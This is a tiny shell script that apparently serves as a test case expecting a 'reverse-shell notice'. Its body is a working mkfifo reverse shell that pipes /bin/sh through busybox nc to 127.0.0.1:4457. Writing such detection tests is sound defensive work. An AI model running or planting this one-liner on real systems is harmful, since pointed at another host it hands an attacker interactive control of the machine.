#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# what: the same where nothing serves
# expect: reverse-shell notice
# listen: 127.0.0.1:4457
# needs: busybox
mkfifo /tmp/f
/bin/sh </tmp/f 2>&1 | busybox nc 127.0.0.1 4457 >/tmp/f
